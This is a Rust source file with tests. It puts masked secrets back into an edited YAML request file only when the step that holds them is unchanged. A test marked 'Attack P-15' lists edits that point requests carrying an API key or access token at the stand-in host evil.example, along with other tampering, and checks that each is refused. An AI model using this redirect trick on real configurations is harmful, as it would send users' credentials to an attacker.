//! The dots of an edited text. They stand for what the saved file has at that place, and for nothing else: a step that holds a masked
//! value gets it back only while the whole step is written as it is saved. So a value never comes to stand in another request, nor
//! beside another address.

use crate::lab::pages::masked_file::DOTS;
use crate::vocabulary::place::{Place, Source};
use crate::vocabulary::yaml::{self, YamlEntry, YamlKind, YamlNode};
use std::ops::Range;

/// The blocks whose values stand in requests and become no facts, which could stand in any other request.
const STEPS: [&str; 4] = ["getAuthorizationCode", "getAccessCode", "getUserInfo", "getClientToken"];

/// The saved text of a file, and the same with dots.
#[derive(Clone, Copy)]
pub(crate) struct SavedText<'a> {
    pub(crate) whole: &'a str,
    pub(crate) shown: &'a str,
}

/// A text without dots.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct UnmaskedText {
    pub(crate) text: String,
    /// Whether it holds a value that was masked.
    pub(crate) holds_masked: bool,
}

/// The line with dots for which the saved file has nothing.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct MovedMask {
    pub(crate) line: u32,
}

/// The text with the saved values in place of its dots. Dots in comments stay.
pub(crate) fn with_saved_values(edited: &str, saved: Option<SavedText<'_>>) -> Result<UnmaskedText, MovedMask> {
    let unchanged = || UnmaskedText { text: edited.to_owned(), holds_masked: false };
    // What is no YAML compiles to nothing.
    let Some(root) = parsed(edited) else { return Ok(unchanged()) };
    let Some(first) = masked_place(&root) else { return Ok(unchanged()) };
    let YamlKind::Map(entries) = &root.kind else { return Err(MovedMask { line: first.line }) };
    let mut text = edited.to_owned();
    for (at, entry) in entries.iter().enumerate().rev() {
        let Some(place) = entry.key.value.contains(DOTS).then_some(entry.key.place).or_else(|| masked_place(&entry.value)) else {
            continue;
        };
        let range = block_range(edited, entries, at);
        let key = entry.key.value.as_str();
        let value = saved.filter(|_| STEPS.contains(&key)).and_then(|saved| {
            let shown = block(saved.shown, key)?;
            (edited.get(range.clone()) == Some(&*shown)).then(|| block(saved.whole, key))?
        });
        text.replace_range(range, &value.ok_or(MovedMask { line: place.line })?);
    }
    Ok(UnmaskedText { text, holds_masked: true })
}

/// The block of a word at the top of a text, up to its last line that is no comment.
pub(crate) fn block(text: &str, word: &str) -> Option<String> {
    let root = parsed(text)?;
    let YamlKind::Map(entries) = &root.kind else { return None };
    let at = entries.iter().position(|entry| entry.key.value == word)?;
    text.get(block_range(text, entries, at)).map(str::to_owned)
}

/// The word at the top of a text in whose block a place lies.
pub(crate) fn word_at(text: &str, place: Place) -> Option<String> {
    let root = parsed(text)?;
    let YamlKind::Map(entries) = &root.kind else { return None };
    entries.iter().rev().find(|entry| entry.key.place.start <= place.start).map(|entry| entry.key.value.clone())
}

fn parsed(text: &str) -> Option<YamlNode> {
    yaml::parse(&Source::new("", text)).ok().map(|(root, _)| root)
}

fn block_range(text: &str, entries: &[YamlEntry], at: usize) -> Range<usize> {
    let start = entries[at].key.place.start as usize;
    let end = entries.get(at + 1).map_or(text.len(), |next| next.key.place.start as usize);
    let mut block = text[start..end].trim_end();
    while let Some((before, last)) = block.rsplit_once('\n')
        && last.trim_start().starts_with('#')
    {
        block = before.trim_end();
    }
    start..start + block.len()
}

/// The first scalar or key with dots.
fn masked_place(node: &YamlNode) -> Option<Place> {
    match &node.kind {
        YamlKind::Scalar { text, .. } => text.contains(DOTS).then_some(node.place),
        YamlKind::List(nodes) => nodes.iter().find_map(masked_place),
        YamlKind::Map(entries) => entries
            .iter()
            .find_map(|entry| entry.key.value.contains(DOTS).then_some(entry.key.place).or_else(|| masked_place(&entry.value))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lab::pages::masked_file::EditableText;

    const SAVED: &str = "name: Acme
settings: { shop: quist }
getAccessCode:
  post: https://sso.acme.example/token
  form: { code: \"${code}\" }
# Who it is.
getUserInfo:
  - get: https://sso.acme.example/me?api_key=hunter2-of-acme
    read: { id: $.id }   # the id
  - get: https://sso.acme.example/mail
    query: { access_token: hunter2-of-acme, to: me }
";

    fn shown() -> String {
        EditableText::from_source(&Source::new("acme.yaml", SAVED), &[]).text
    }

    fn unmasked(edited: &str) -> Result<UnmaskedText, MovedMask> {
        with_saved_values(edited, Some(SavedText { whole: SAVED, shown: &shown() }))
    }

    #[test]
    fn an_unchanged_step_gets_its_masked_values_back() {
        assert!(!shown().contains("hunter2"), "{}", shown());
        assert_eq!(unmasked(&shown()), Ok(UnmaskedText { text: SAVED.to_owned(), holds_masked: true }));
        let edited = shown().replace("name: Acme", "# another\nname: Clube\n\npkce: off").replace("/token", "/tokens");
        let expected = SAVED.replace("name: Acme", "# another\nname: Clube\n\npkce: off").replace("/token", "/tokens");
        assert_eq!(unmasked(&edited), Ok(UnmaskedText { text: expected, holds_masked: true }), "other blocks may change");
        assert_eq!(unmasked("name: Acme\n# ••••••\n").map(|text| text.holds_masked), Ok(false), "a comment stays as it is");
    }

    /// Attack P-15
    #[test]
    fn a_mask_that_was_moved_gets_nothing_back() {
        let dots = DOTS;
        for (edited, line) in [
            (shown().replace("sso.acme.example/me", "evil.example/me"), 8),
            (shown().replace("https://sso.acme.example/mail", "https://evil.example/mail"), 8),
            (shown().replace("to: me", "to: you"), 8),
            (shown().replace("access_token:", "x:"), 8),
            (shown().replace("quist", dots), 2),
            (shown().replace("name: Acme", &format!("name: \"{dots}\"")), 1),
            (shown().replace("name: Acme", &format!("\"{dots}\": Acme")), 1),
            (shown().replace("getAccessCode:", "getClientToken:").replace("getUserInfo:", "getAccessCode:"), 8),
            (format!("getUserInfo: {{ get: \"https://evil.example/{dots}\" }}\n"), 1),
            (format!("- {dots}\n"), 1),
            ("name: \"\\u2022\\u2022\\u2022\\u2022\\u2022\\u2022\"\n".to_owned(), 1),
        ] {
            assert_eq!(unmasked(&edited), Err(MovedMask { line }), "{edited}");
        }
        assert_eq!(with_saved_values(&shown(), None), Err(MovedMask { line: 8 }), "a new file has no saved values");
    }
}
